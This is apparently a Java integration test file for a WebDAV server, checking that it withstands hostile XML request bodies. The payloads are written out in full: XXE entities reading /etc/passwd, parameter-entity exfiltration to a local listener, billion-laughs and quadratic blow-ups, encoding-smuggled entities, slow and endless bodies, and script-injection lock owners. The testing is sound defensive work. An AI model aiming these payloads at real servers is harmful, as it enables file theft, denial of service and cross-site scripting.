package org.myrmex.itests;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.myrmex.itests.Stronghold.HERE;
import static org.myrmex.itests.Stronghold.MARK;
import static org.myrmex.itests.Stronghold.SECRET;

import java.io.ByteArrayInputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import javax.xml.parsers.DocumentBuilderFactory;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.io.TempDir;
import org.myrmex.itests.Talk.Heard;

/** Inputs 1 to 17 of the list of hostile ones in {@code docs/hostile-requests.md}: XML bodies, each by every method that reads XML. */
class HostileBodiesIT {
    private static final Pattern LOCK_TOKEN = Pattern.compile("(?im)^Lock-Token: (<[^>]*>)");
    private static final int SLOW_SECONDS = Full.or(90, 5);

    @TempDir
    static Path folder;

    private static Stronghold hold;
    private static ServerSocket door;
    private static final AtomicInteger KNOCKS = new AtomicInteger();

    @BeforeAll
    static void start() throws Exception {
        hold = Stronghold.start("127.0.1.1", folder);
        door = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
        Thread listener = new Thread(HostileBodiesIT::count, "door");
        listener.setDaemon(true);
        listener.start();
    }

    private static void count() {
        while (!door.isClosed()) {
            try {
                door.accept().close();
                KNOCKS.incrementAndGet();
            } catch (java.io.IOException e) {
                return;
            }
        }
    }

    @AfterAll
    static void stop() throws Exception {
        if (hold != null) {
            door.close();
            hold.close();
        }
    }

    @TestFactory
    Stream<DynamicTest> bodies() {
        return Stream.of(
                hold.withstands(1, "an external entity of a file", this::externalEntity),
                hold.withstands(2, "an external document type", this::externalType),
                hold.withstands(3, "parameter entities", this::parameterEntities),
                hold.withstands(4, "a billion laughs", this::laughs),
                hold.withstands(5, "a quadratic blow-up", this::quadratic),
                hold.withstands(6, "any document type at all", this::anyType),
                hold.withstands(7, "XInclude and schemaLocation", this::includes),
                hold.withstands(8, "50,000 levels", this::levels),
                hold.withstands(9, "100,000 properties, and one 100,000 times", this::properties),
                hold.withstands(10, "a property of 10 MB", this::longProperty),
                hold.withstands(10, "10,000 properties on one file", this::manyProperties),
                hold.withstands(11, "an attribute of 10 MB, 10,000 namespaces", this::attributes),
                hold.withstands(12, "a body of 20 MB", this::longBody),
                hold.withstands(12, "an endless body in chunks", this::endlessBody),
                hold.withstands(12, "a body of a byte a second", this::slowBody),
                hold.withstands(13, "other encodings than it says", this::encodings),
                hold.withstands(14, "names without a namespace", this::namespaces),
                hold.withstands(15, "another content type, or none", this::types),
                hold.withstands(16, "PROPPATCH of what the peer keeps itself", this::protectedProperties),
                hold.withstands(17, "a lock's owner with mark-up, script, 1 MB", this::lockOwners));
    }

    /** Sends it by each method to things that are there, and takes away what came of it. */
    private void each(Sent body, Judged judged) throws Exception {
        for (HostileBody method : HostileBody.values()) {
            one(method, body.of(method), judged);
        }
    }

    private interface Sent {
        byte[] of(HostileBody method);
    }

    private interface Judged {
        void answer(Heard heard);
    }

    private void refusedByEach(java.util.function.Function<HostileBody, String> body) throws Exception {
        each(method -> body.apply(method).getBytes(StandardCharsets.UTF_8), hold::refused);
    }

    /** Taken or refused, both will do; but soon, and nothing is fetched. */
    private void harmlessByEach(java.util.function.Function<HostileBody, String> body) throws Exception {
        each(
                method -> body.apply(method).getBytes(StandardCharsets.UTF_8),
                heard -> hold.is(heard, 200, 201, 207, 400, 403, 405, 409, 413, 415, 422, 507));
    }

    private Heard one(HostileBody method, byte[] body, Judged judged, String... headers) throws Exception {
        int knocks = KNOCKS.get();
        boolean made = method == HostileBody.PROPFIND || method == HostileBody.PROPPATCH || method == HostileBody.LOCK;
        if (made) {
            assertEquals(201, hold.tell("PUT", method.target(), "x").status());
        }
        // the extended MKCOL reads a body of no other type
        String[] all = headers.length == 0 ? new String[] {"Content-Type: application/xml"} : headers;
        Heard heard = hold.tell(method.name(), method.target(), body, all);
        judged.answer(heard);
        Matcher token = LOCK_TOKEN.matcher(heard.text());
        if (token.find()) {
            assertEquals(
                    204,
                    hold.ask("UNLOCK", method.target(), "Lock-Token: " + token.group(1))
                            .status());
        }
        if (made || heard.status() == 201) {
            Heard found = hold.ask("PROPFIND", method.target(), "Depth: 0");
            assertFalse(found.text().contains(SECRET), found.text());
            assertEquals(204, hold.ask("DELETE", method.target()).status());
        }
        assertEquals(knocks, KNOCKS.get(), "nobody may be asked");
        return heard;
    }

    private static String url() {
        return "http://127.0.0.1:" + door.getLocalPort() + "/" + MARK;
    }

    private void externalEntity() throws Exception {
        for (String file : List.of(
                hold.outside.resolve("canary.txt").toUri().toString(),
                "file:///etc/passwd",
                hold.disk.root().resolve("beside.txt").toString())) {
            refusedByEach(method ->
                    method.with("<!DOCTYPE " + method.root() + " [<!ENTITY c SYSTEM \"" + file + "\">]>", "", "&c;"));
        }
    }

    private void externalType() throws Exception {
        refusedByEach(method -> method.with("<!DOCTYPE " + method.root() + " SYSTEM \"" + url() + "\">", "", MARK));
        refusedByEach(
                method -> method.with("<!DOCTYPE " + method.root() + " PUBLIC \"x\" \"" + url() + "\">", "", MARK));
    }

    private void parameterEntities() throws Exception {
        refusedByEach(method ->
                method.with("<!DOCTYPE x [<!ENTITY % p SYSTEM \"" + url() + "\"> %p; <!ENTITY q \"x\">]>", "", "&q;"));
        refusedByEach(method -> method.with(
                "<!DOCTYPE x [<!ENTITY % f SYSTEM \""
                        + hold.outside.resolve("canary.txt").toUri() + "\"><!ENTITY % e \"<!ENTITY &#37; s SYSTEM '"
                        + url() + "?%f;'>\"> %e; %s;]>",
                "",
                MARK));
    }

    private void laughs() throws Exception {
        StringBuilder entities = new StringBuilder("<!DOCTYPE x [<!ENTITY a0 \"" + MARK + "\">");
        for (int i = 1; i < 12; i++) {
            entities.append("<!ENTITY a" + i + " \"" + ("&a" + (i - 1) + ";").repeat(10) + "\">");
        }
        refusedByEach(method -> method.with(entities + "]>", "", "&a11;"));
    }

    private void quadratic() throws Exception {
        String type = "<!DOCTYPE x [<!ENTITY a \"" + "x".repeat(50_000) + "\">]>";
        refusedByEach(method -> method.with(type, "", "&a;".repeat(2_000)));
    }

    private void anyType() throws Exception {
        for (String type : List.of(
                "<!DOCTYPE x>",
                "<!DOCTYPE x []>",
                "<!-- " + MARK + " --> <!DOCTYPE D:propfind>",
                "<!DOCTYPE x [<!ELEMENT x ANY>]>",
                "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1\">")) {
            refusedByEach(method -> method.with(type, "", MARK));
        }
    }

    private void includes() throws Exception {
        for (String href : List.of(hold.outside.resolve("canary.txt").toUri().toString(), url())) {
            harmlessByEach(method -> method.with(
                    "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"" + href + "\" parse=\"text\"/>"));
            harmlessByEach(method -> method.with(
                    "",
                    "xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"urn:x " + href
                            + "\" xsi:noNamespaceSchemaLocation=\"" + href + "\"",
                    "<a/>"));
            harmlessByEach(method -> method.with("<?xml-stylesheet href=\"" + href + "\"?>", "", "<a/>"));
        }
    }

    private void levels() throws Exception {
        refusedByEach(method -> method.with("<a>".repeat(50_000) + "</a>".repeat(50_000)));
        refusedByEach(method -> method.with("<a>".repeat(30_000)));
    }

    private void properties() throws Exception {
        String different =
                IntStream.range(0, 100_000).mapToObj(i -> "<D:p" + i + "/>").collect(Collectors.joining());
        refusedByEach(method -> method.with(different));
        refusedByEach(method -> method.with("<D:getetag/>".repeat(100_000)));
        String most = IntStream.range(0, 990).mapToObj(i -> "<D:p" + i + "/>").collect(Collectors.joining());
        harmlessByEach(method -> method.with(most));
        Heard twice = one(
                HostileBody.PROPFIND,
                HostileBody.PROPFIND.with("<D:getetag/>".repeat(2_000)).getBytes(StandardCharsets.UTF_8),
                heard -> hold.is(heard, 207, 400));
        assertTrue(twice.text().split("<D:getetag>", -1).length <= 2, "it is told once: " + twice.text());
    }

    private void longProperty() throws Exception {
        refusedByEach(method -> method.with("x".repeat(10 << 20)));
        refusedByEach(method -> method.with("<![CDATA[" + "x".repeat(10 << 20) + "]]>"));
    }

    /** More than are kept of one thing; they go with it. */
    private void manyProperties() throws Exception {
        String target = HostileBody.PROPPATCH.target();
        hold.is(hold.tell("PUT", target, "x"), 201);
        boolean full = false;
        for (int i = 0; i < 100; i++) {
            StringBuilder many = new StringBuilder("<D:propertyupdate xmlns:D=\"DAV:\"><D:set><D:prop>");
            for (int j = 0; j < 100; j++) {
                many.append("<q")
                        .append(i * 100 + j)
                        .append(" xmlns=\"urn:q\">")
                        .append("x".repeat(1_000))
                        .append("</q")
                        .append(i * 100 + j)
                        .append('>');
            }
            Heard heard =
                    hold.is(hold.tell("PROPPATCH", target, many + "</D:prop></D:set></D:propertyupdate>"), 207, 507);
            full = full || heard.text().contains(" 507 ");
        }
        assertTrue(full, "there is a cap");
        Heard all = hold.is(hold.ask("PROPFIND", target, "Depth: 0"), 207);
        assertTrue(all.bytes() < 2 << 20, "what is kept of one file: " + all.bytes());
        hold.is(hold.ask("DELETE", target), 204);
        hold.is(hold.tell("PUT", target, "x"), 201);
        assertFalse(hold.ask("PROPFIND", target, "Depth: 0").body().contains("urn:q"), "they went with it");
        hold.is(hold.ask("DELETE", target), 204);
    }

    private void attributes() throws Exception {
        refusedByEach(method -> method.with("<a b=\"" + "x".repeat(10 << 20) + "\"/>"));
        refusedByEach(method -> method.with("<a b=\"" + "x".repeat(200 << 10)));
        String many = IntStream.range(0, 10_000)
                .mapToObj(i -> " xmlns:n" + i + "=\"urn:" + i + "\"")
                .collect(Collectors.joining());
        refusedByEach(method -> method.with("", many, "<a/>"));
        refusedByEach(method -> method.with("<a" + many + "/>"));
        refusedByEach(method -> method.with("<" + "a".repeat(200 << 10) + "/>".repeat(2)));
    }

    private void longBody() throws Exception {
        byte[] blank = new byte[20 << 20];
        java.util.Arrays.fill(blank, (byte) ' ');
        each(method -> blank, hold::refused);
        refusedByEach(method -> method.with("<!-- " + "x".repeat(20 << 20) + " -->"));
    }

    private void endlessBody() throws Exception {
        byte[] chunk = ("10000\r\n" + " ".repeat(1 << 16) + "\r\n").getBytes(StandardCharsets.US_ASCII);
        for (HostileBody method : HostileBody.values()) {
            String head = hold.request(
                    method.name(),
                    method == HostileBody.MKCOL ? method.target() : HERE,
                    "Transfer-Encoding: chunked",
                    "Content-Type: application/xml");
            hold.refused(Talk.say(hold.base, Stronghold.SOON_MILLIS, out -> {
                out.write(head.getBytes(StandardCharsets.ISO_8859_1));
                while (true) {
                    out.write(chunk);
                }
            }));
        }
    }

    /** One for each method at once; meanwhile the peer serves others. */
    private void slowBody() throws Exception {
        List<Thread> slow = Stream.of(HostileBody.values())
                .map(method -> new Thread(() -> drip(method.name())))
                .toList();
        slow.forEach(Thread::start);
        long end = System.nanoTime() + TimeUnit.SECONDS.toNanos(SLOW_SECONDS);
        while (System.nanoTime() < end) {
            hold.isAsEver();
            TimeUnit.MILLISECONDS.sleep(200);
        }
        for (Thread thread : slow) {
            thread.join();
        }
    }

    private static void drip(String method) {
        try {
            String head = hold.request(method, HERE, "Content-Length: 1000");
            Talk.say(hold.base, TimeUnit.SECONDS.toMillis(SLOW_SECONDS), out -> {
                out.write(head.getBytes(StandardCharsets.ISO_8859_1));
                while (true) {
                    out.write(' ');
                    TimeUnit.SECONDS.sleep(1);
                }
            });
        } catch (java.io.IOException | InterruptedException e) {
            throw new IllegalStateException(e);
        }
    }

    private void encodings() throws Exception {
        // these a client may send: whatever comes, it is one of the answers to the same in UTF-8
        for (String charset : List.of("UTF-16", "UTF-16LE", "UTF-16BE")) {
            each(
                    method -> method.with(MARK).replace("utf-8", charset).getBytes(Charset.forName(charset)),
                    heard -> hold.is(heard, 200, 201, 207, 400, 403, 405, 409, 415, 422));
        }
        each(
                method -> ("\uFEFF" + method.with("<a/>")).getBytes(StandardCharsets.UTF_8),
                heard -> hold.is(heard, 200, 201, 207, 400, 403, 405, 409, 415, 422));
        // the declaration of entities hidden in another encoding
        for (String charset : List.of("UTF-16", "UTF-32", "IBM037")) {
            each(
                    method -> method.with("<!DOCTYPE x [<!ENTITY c SYSTEM \"" + url() + "\">]>", "", "&c;")
                            .replace("utf-8", charset)
                            .getBytes(Charset.forName(charset)),
                    hold::refused);
        }
        refusedByEach(method -> method.with("+ADw-a/+AD4-&x;").replace("utf-8", "UTF-7"));
        refusedByEach(method -> method.with("ä").replace("utf-8", "UTF-16"));
        refusedByEach(method -> method.with("x").replace("utf-8", MARK));
        refusedByEach(method -> method.with("a\0b"));
        refusedByEach(method -> method.with("\0".repeat(1_000)));
        refusedByEach(method -> method.with("&#0;"));
        refusedByEach(method -> method.with("&#xD800;"));
        for (String half : List.of("\u00ed\u00a0\u0080", "\u00ff", "\u00c0\u00ae", "\u00f4\u0090\u0080\u0080")) {
            each(method -> method.with(half).getBytes(StandardCharsets.ISO_8859_1), hold::refused);
        }
    }

    private void namespaces() throws Exception {
        for (String content : List.of(
                "<x:a xmlns:x=\"\"/>",
                "<nobody:a/>",
                "<a xmlns:xml=\"urn:x\"/>",
                "<a xmlns:xmlns=\"urn:x\"/>",
                "<xmlns:a/>",
                "<a xmlns:x=\"http://www.w3.org/XML/1998/namespace\"/>",
                "<:a/>",
                "<a:/>",
                "<a:b:c xmlns:a=\"urn:a\"/>",
                "<a xmlns:p=\"urn:p\" xmlns:q=\"urn:p\" p:x=\"1\" q:x=\"2\"/>")) {
            refusedByEach(method -> method.with(content));
        }
        harmlessByEach(method -> method.with("<a xmlns=\"\"/>"));
        harmlessByEach(method -> method.with("<a xmlns=\"urn:&lt;&quot;&gt;&#10;\"/>"));
        each(method -> "<a xmlns=\"\"/>".getBytes(StandardCharsets.UTF_8), hold::refused);
    }

    private void types() throws Exception {
        for (String type : List.of(
                "Content-Type: application/json",
                "Content-Type: text/html",
                "Content-Type: application/x-www-form-urlencoded",
                "Content-Type: multipart/form-data; boundary=x",
                "Content-Type: text/xml; charset=utf-7",
                "Content-Type: " + "x".repeat(5_000),
                "X-No: type")) {
            for (HostileBody method : HostileBody.values()) {
                one(
                        method,
                        method.with("<a/>").getBytes(StandardCharsets.UTF_8),
                        heard -> hold.is(heard, 200, 201, 207, 400, 403, 405, 409, 415, 422),
                        type);
                one(method, ("{\"" + MARK + "\":1}").getBytes(StandardCharsets.UTF_8), hold::refused, type);
            }
        }
    }

    private void protectedProperties() throws Exception {
        String dav = "getetag getcontentlength getcontenttype resourcetype lockdiscovery supportedlock creationdate"
                + " quota-available-bytes quota-used-bytes sync-token supported-report-set current-user-privilege-set owner";
        String before = hold.ask("PROPFIND", HERE + "known.txt", "Depth: 0").body();
        for (String name : dav.split(" ", -1)) {
            for (String act : List.of("set", "remove")) {
                String body = "<D:propertyupdate xmlns:D=\"DAV:\"><D:" + act + "><D:prop><D:" + name + ">" + MARK
                        + "</D:" + name + "></D:prop></D:" + act + "></D:propertyupdate>";
                for (String target : List.of(HERE + "known.txt", HERE)) {
                    Heard heard = hold.is(hold.tell("PROPPATCH", target, body), 207, 403, 409);
                    assertFalse(heard.body().contains("200 OK"), heard.text());
                }
            }
        }
        assertEquals(
                before, hold.ask("PROPFIND", HERE + "known.txt", "Depth: 0").body());
    }

    private void lockOwners() throws Exception {
        for (String owner : List.of(
                "<script>alert(1)</script>",
                "<![CDATA[<script>alert(1)</script>]]>",
                "]]&gt;&lt;/D:owner&gt;",
                "&#60;/D:activelock&#62;",
                "<a href=\"javascript:alert(1)\" xmlns=\"http://www.w3.org/1999/xhtml\">x</a>",
                "<D:lockdiscovery/>".repeat(1_000),
                "x".repeat(200_000))) {
            Heard heard = hold.is(hold.tell("LOCK", HERE + "known.txt", HostileBody.LOCK.with(owner)), 200, 400, 413);
            Heard found = hold.is(hold.ask("PROPFIND", HERE + "known.txt", "Depth: 0"), 207);
            DocumentBuilderFactory.newInstance()
                    .newDocumentBuilder()
                    .parse(new ByteArrayInputStream(found.body().getBytes(StandardCharsets.UTF_8)));
            assertTrue(found.bytes() < 10_000, "it is not echoed as long as it likes: " + found.bytes());
            assertFalse(hold.ask("GET", HERE).body().contains("<script"), "nor in a page");
            if (heard.status() == 200) {
                hold.is(hold.ask("UNLOCK", HERE + "known.txt", "Lock-Token: " + HostileMethodsIT.token(heard)), 204);
            }
        }
        hold.refused(hold.tell("LOCK", HERE + "known.txt", HostileBody.LOCK.with("x".repeat(1 << 20))));
    }
}
